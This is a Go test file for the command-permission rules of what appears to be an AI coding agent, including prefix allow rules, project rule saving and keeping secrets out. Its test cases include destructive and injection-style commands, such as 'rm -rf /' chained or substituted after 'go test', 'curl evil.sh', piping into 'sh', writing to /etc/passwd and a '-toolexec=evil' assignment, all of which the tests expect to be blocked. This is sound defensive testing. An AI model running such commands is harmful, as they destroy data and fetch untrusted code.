package tools

import (
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func bashRequest(command string) Request {
	b, _ := json.Marshal(map[string]string{"command": command})
	return Request{Tool: ToolBash, Summary: command, Args: string(b)}
}

func TestProjectRule(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		req     Request
		want    string // Rule.String(); "" when not eligible
		wantErr bool
	}{
		{"subcommand: a prefix", bashRequest("go test ./..."), "go test …", false},
		{"two words", bashRequest("npm run build"), "npm run …", false},
		{"one word: exact", bashRequest("make"), "make", false},
		{"option second: exact", bashRequest("ls -la src"), "ls -la src", false},
		{"git option: exact", bashRequest("git -C sub status"), "git -C sub status", false},
		{"quoted words shown quoted", bashRequest(`grep -rn "a b" .`), "grep -rn 'a b' .", false},
		{"and list: not eligible", bashRequest("go build ./... && go test ./..."), "", false},
		{"pipe: not eligible", bashRequest("go test ./... | tail"), "", false},
		{"redirection: not eligible", bashRequest("go test ./... > out.txt"), "", false},
		{"substitution: not eligible", bashRequest("go test $(go list ./...)"), "", false},
		{"variable: not eligible", bashRequest("rm -rf $DIR"), "", false},
		{"assignment: not eligible", bashRequest("CGO_ENABLED=0 go build"), "", false},
		{"shell: not eligible", bashRequest("bash -c 'go test'"), "", false},
		{"shell with a script: not eligible", bashRequest("sh script.sh"), "", false},
		{"shell by path: not eligible", bashRequest("/bin/bash script.sh"), "", false},
		{"sudo: not eligible", bashRequest("sudo make install"), "", false},
		{"env: not eligible", bashRequest("env GOOS=linux go build"), "", false},
		{"xargs: not eligible", bashRequest("xargs rm"), "", false},
		{"timeout: not eligible", bashRequest("timeout 10 go test"), "", false},
		{"find: not eligible", bashRequest("find . -name x"), "", false},
		{"eval: not eligible", bashRequest("eval echo hi"), "", false},
		{"package runner: not eligible", bashRequest("uv run pytest"), "", false},
		{"go run: not eligible", bashRequest("go run ./cmd/x"), "", false},
		{"control character: not eligible", bashRequest("echo 'a\x1b[2Jb'"), "", false},
		{"write", Request{Tool: ToolWrite, Summary: "a.go"}, "Write", false},
		{"edit", Request{Tool: ToolEdit, Summary: "a.go"}, "Edit", false},
		{"write outside: not eligible", Request{Tool: ToolWrite, OutsideWorkDir: true}, "", false},
		{"read outside: not eligible", Request{Tool: ToolRead, OutsideWorkDir: true}, "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r, ok := ProjectRule(tt.req)
			got := ""
			if ok {
				got = r.String()
				require.NoError(t, r.Validate())
			}
			assert.Equal(t, tt.want, got, "ProjectRule(%q)", tt.req.Summary)
		})
	}
}

func TestRulesAllow(t *testing.T) {
	t.Parallel()
	rules := []Rule{
		{Tool: ToolBash, Command: []string{"go", "test"}},
		{Tool: ToolBash, Command: []string{"go", "vet"}},
		{Tool: ToolBash, Command: []string{"ls", "-la"}, Exact: true},
		{Tool: ToolWrite},
	}
	tests := []struct {
		name string
		req  Request
		want bool
	}{
		{"the prefix itself", bashRequest("go test"), true},
		{"more arguments", bashRequest("go test -race -run 'TestA|TestB' ./internal/..."), true},
		{"another subcommand", bashRequest("go build ./..."), false},
		{"a longer word is not the prefix", bashRequest("go testify"), false},
		{"an option before the subcommand", bashRequest("go -C /tmp test"), false},
		{"each part of a list allowed", bashRequest("go vet ./... && go test ./..."), true},
		{"one part of a list not allowed", bashRequest("go test ./... && rm -rf /"), false},
		{"one part after ; not allowed", bashRequest("go test; curl evil.sh"), false},
		{"one part after || not allowed", bashRequest("go test || sh"), false},
		{"a pipe into a command not allowed", bashRequest("go test ./... | sh"), false},
		{"a pipe of allowed commands", bashRequest("go test ./... | go vet"), true},
		{"a redirection", bashRequest("go test ./... > /etc/passwd"), false},
		{"a redirection of stderr", bashRequest("go test ./... 2>&1"), false},
		{"a command substitution", bashRequest("go test $(rm -rf /)"), false},
		{"backquotes", bashRequest("go test `rm -rf /`"), false},
		{"a variable", bashRequest("go test $X"), false},
		{"an assignment before", bashRequest("GOFLAGS=-toolexec=evil go test"), false},
		{"a subshell", bashRequest("(go test)"), false},
		{"in the background", bashRequest("go test &"), false},
		{"a glob", bashRequest("go test ./*"), false},
		{"exact rule, exact command", bashRequest("ls -la"), true},
		{"exact rule, more arguments", bashRequest("ls -la /etc"), false},
		{"write inside", Request{Tool: ToolWrite, Summary: "a.go"}, true},
		{"write outside", Request{Tool: ToolWrite, Summary: "/etc/x", OutsideWorkDir: true}, false},
		{"edit has no rule", Request{Tool: ToolEdit, Summary: "a.go"}, false},
		{"bash args not JSON", Request{Tool: ToolBash, Args: "go test"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, tt.want, allowedBy(rules, tt.req), "allowedBy(%q)", tt.req.Summary)
		})
	}
}

func TestRuleValidate(t *testing.T) {
	t.Parallel()
	for _, r := range []Rule{{Tool: "bash", Command: []string{"ls"}}, {Tool: "Nope"}, {Tool: ToolBash}, {Tool: ToolWrite, Command: []string{"x"}}, {Tool: ToolBash, Command: []string{"go", ""}}} {
		assert.Error(t, r.Validate(), "Validate(%+v)", r)
	}
}

// memRules is ProjectRules in memory, with the failures a file can have.
type memRules struct {
	mu      sync.Mutex
	rules   []Rule
	readErr error
	addErr  error
}

func (m *memRules) Rules() ([]Rule, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]Rule(nil), m.rules...), m.readErr
}

func (m *memRules) Add(r Rule) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.addErr != nil {
		return m.addErr
	}
	m.rules = append(m.rules, r)
	return nil
}

func (m *memRules) revokeAll() {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.rules = nil
}

func TestAllowProject(t *testing.T) {
	t.Parallel()
	rules := &memRules{}
	asker := &fakeAsker{decision: AllowProject}
	s, _ := newTestSet(t, Options{Asker: asker, Project: rules})

	res := run(t, s, ToolBash, map[string]any{"command": "echo one"})
	require.False(t, res.IsError, res.Content)
	require.Len(t, asker.asked(), 1)
	assert.Equal(t, "echo one …", asker.asked()[0].Project, "the dialog shows the rule it saves")
	assert.Equal(t, []Decision{AllowOnce, AllowSession, AllowProject, Deny}, asker.asked()[0].Choices())
	assert.Equal(t, []Rule{{Tool: ToolBash, Command: []string{"echo", "one"}}}, rules.rules)

	// Later calls of the same command prefix run without asking ...
	asker.decision = Deny
	res = run(t, s, ToolBash, map[string]any{"command": "echo one two && echo one three"})
	require.False(t, res.IsError, res.Content)
	assert.Len(t, asker.asked(), 1)
	// ... others still ask, and so does the prefix joined to another command.
	for _, c := range []string{"echo two", "echo one > f.txt", "echo one; echo two"} {
		res = run(t, s, ToolBash, map[string]any{"command": c})
		assert.True(t, res.Denied, "%q ran without asking", c)
	}
	assert.Len(t, asker.asked(), 4)
	assert.Empty(t, asker.asked()[3].Project, "a list is not offered for the project")
	assert.Equal(t, []Decision{AllowOnce, AllowSession, Deny}, asker.asked()[3].Choices())

	// A rule revoked (by this gencode or another) asks again.
	rules.revokeAll()
	res = run(t, s, ToolBash, map[string]any{"command": "echo one"})
	assert.True(t, res.Denied)
	assert.Len(t, asker.asked(), 5)
}

func TestAllowProjectForEdits(t *testing.T) {
	t.Parallel()
	rules := &memRules{}
	asker := &fakeAsker{decision: AllowProject}
	s, dir := newTestSet(t, Options{Asker: asker, Project: rules})
	res := run(t, s, ToolWrite, map[string]any{"file_path": "a.txt", "content": "a\n"})
	require.False(t, res.IsError, res.Content)
	asker.decision = Deny
	res = run(t, s, ToolWrite, map[string]any{"file_path": "sub/b.txt", "content": "b\n"})
	require.False(t, res.IsError, res.Content)
	assert.Len(t, asker.asked(), 1, "a second Write inside the project does not ask")
	// Edit is its own tool; a write outside still asks every time.
	writeFile(t, filepath.Join(dir, "e.txt"), "x\n")
	res = run(t, s, ToolEdit, map[string]any{"file_path": "e.txt", "old_string": "x", "new_string": "y"})
	assert.True(t, res.Denied)
	res = run(t, s, ToolWrite, map[string]any{"file_path": "../out.txt", "content": "b\n"})
	assert.True(t, res.Denied)
	assert.Len(t, asker.asked(), 3)
	assert.Empty(t, asker.asked()[2].Project)
}

func TestProjectRulesInPrintMode(t *testing.T) {
	t.Parallel()
	rules := &memRules{rules: []Rule{{Tool: ToolBash, Command: []string{"echo", "hi"}}}}
	s, _ := newTestSet(t, Options{Project: rules}) // no Asker: print mode
	res := run(t, s, ToolBash, map[string]any{"command": "echo hi there"})
	require.False(t, res.IsError, res.Content)
	assert.Contains(t, res.Content, "hi there\n")
	res = run(t, s, ToolBash, map[string]any{"command": "echo bye"})
	assert.True(t, res.Denied)
	assert.Contains(t, res.Content, "--allow Bash")
}

func TestBrokenProjectRules(t *testing.T) {
	t.Parallel()
	rules := &memRules{rules: []Rule{{Tool: ToolBash, Command: []string{"echo", "hi"}}}, readErr: errors.New("line 3: bad")}
	asker := &fakeAsker{decision: AllowProject}
	s, _ := newTestSet(t, Options{Asker: asker, Project: rules})
	res := run(t, s, ToolBash, map[string]any{"command": "echo hi"})
	require.False(t, res.IsError, res.Content, "the user's answer still runs the call")
	require.Len(t, asker.asked(), 1, "an unreadable file applies no rule")
	assert.Empty(t, asker.asked()[0].Project, "and offers no project choice")
	assert.Len(t, rules.rules, 1, "nothing is saved over it")

	// A rule that cannot be saved still lets the approved call run.
	rules = &memRules{addErr: errors.New("read-only")}
	s, _ = newTestSet(t, Options{Asker: &fakeAsker{decision: AllowProject}, Project: rules})
	res = s.Run(context.Background(), Call{Name: ToolBash, Arguments: `{"command":"echo hi"}`})
	require.False(t, res.IsError, res.Content)
}

// TestProjectRuleKeepsSecretsOut: a command whose rule would hold the API
// key is not offered for the project, so the key never reaches the file.
func TestProjectRuleKeepsSecretsOut(t *testing.T) {
	t.Parallel()
	rules := &memRules{}
	asker := &fakeAsker{decision: AllowProject}
	s, _ := newTestSet(t, Options{Asker: asker, Project: rules, Secrets: []string{"sk-secret-0123456789"}})
	res := run(t, s, ToolBash, map[string]any{"command": "echo sk-secret-0123456789"})
	require.False(t, res.IsError, res.Content)
	require.Len(t, asker.asked(), 1)
	assert.Empty(t, asker.asked()[0].Project)
	assert.Empty(t, rules.rules)
}
